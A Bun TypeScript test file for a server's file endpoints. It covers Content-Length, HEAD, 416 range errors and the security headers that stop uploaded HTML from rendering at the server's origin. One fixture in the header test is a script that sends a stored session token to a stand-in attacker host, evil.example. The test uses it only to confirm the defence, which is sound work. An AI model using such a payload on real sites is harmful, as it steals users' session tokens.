import { afterAll, beforeAll, expect, test } from "bun:test";
import { connect } from "../helpers/client.ts";
import { startServer, type TestServer } from "../helpers/server-process.ts";
import { bearer, fileUrl } from "./helpers/real-session.ts";

const SIZE = 3_000_000;

let server: TestServer;
beforeAll(async () => {
  server = await startServer();
});
afterAll(async () => {
  await server[Symbol.asyncDispose]();
});

/** The status line and headers of a GET as they go over the wire (fetch would hide the framing), with curl. */
async function rawHeaders(url: string, extra: string[] = []): Promise<string> {
  const curl = Bun.spawn(["curl", "-sS", "-D", "-", "-o", "/dev/null", "-H", `Authorization: Bearer ${server.token}`, ...extra, url], { stdout: "pipe" });
  const text = await new Response(curl.stdout).text();
  expect(await curl.exited).toBe(0);
  return text.toLowerCase();
}

// Bug: Bun.serve drops a handler's Content-Length from a ReadableStream body and sends it chunked
// (oven-sh/bun#10507, open in Bun 1.4.5), so a GET of a file over one chunk (256 KiB) has no length:
// curl and browsers show no total or progress. HEAD and files of one chunk have it. Unskip when Bun
// keeps the header; PROTOCOL.md (Files: HTTP) says so meanwhile.
test.skip("a GET of a file of several chunks carries its Content-Length, whole and ranged, and is not chunked", async () => {
  await using client = await connect(server);
  const url = fileUrl(server, client, "big.bin");
  expect((await fetch(url, { method: "PUT", body: new Uint8Array(SIZE), headers: bearer(server) })).status).toBe(201);
  const whole = await rawHeaders(url);
  expect(whole).toContain(`content-length: ${SIZE}\r\n`);
  expect(whole).not.toContain("transfer-encoding");
  const ranged = await rawHeaders(url, ["-r", "100-"]);
  expect(ranged).toContain(`content-length: ${SIZE - 100}\r\n`);
  expect(ranged).not.toContain("transfer-encoding");
});

test("HEAD gives the length of a file of several chunks, and a range past the end is 416 with a plain-text body", async () => {
  await using client = await connect(server);
  const url = fileUrl(server, client, "big.bin");
  expect((await fetch(url, { method: "PUT", body: new Uint8Array(SIZE), headers: bearer(server) })).status).toBe(201);
  const head = await fetch(url, { method: "HEAD", headers: bearer(server) });
  expect(head.headers.get("content-length")).toBe(String(SIZE));
  const past = await fetch(url, { headers: { ...bearer(server), range: `bytes=${SIZE}-` } });
  expect(past.status).toBe(416);
  expect(past.headers.get("content-range")).toBe(`bytes */${SIZE}`);
  expect(past.headers.get("content-type")).toBe("text/plain; charset=utf-8");
  expect(await past.text()).toBe(`bad_message: the range is past the end of the file (${SIZE} bytes)\n`);
});

test("a downloaded workspace file is never a page of the server's origin: attachment, nosniff, and a sandbox CSP", async () => {
  await using client = await connect(server);
  const url = fileUrl(server, client, "page.html");
  // What a command could write to steal the page's token, were it rendered at the server's origin.
  const html = "<script>fetch('//evil.example/?' + sessionStorage.getItem('bunker.token'))</script>";
  expect((await fetch(url, { method: "PUT", body: html, headers: bearer(server) })).status).toBe(201);
  for (const method of ["GET", "HEAD"]) {
    const response = await fetch(url, { method, headers: bearer(server) });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/octet-stream");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("content-disposition")).toBe("attachment");
    expect(response.headers.get("content-security-policy")).toBe("sandbox; default-src 'none'");
  }
  const ranged = await fetch(url, { headers: { ...bearer(server), range: "bytes=0-7" } });
  expect(ranged.status).toBe(206);
  expect(ranged.headers.get("content-disposition")).toBe("attachment");
  expect(await ranged.text()).toBe("<script>");
});
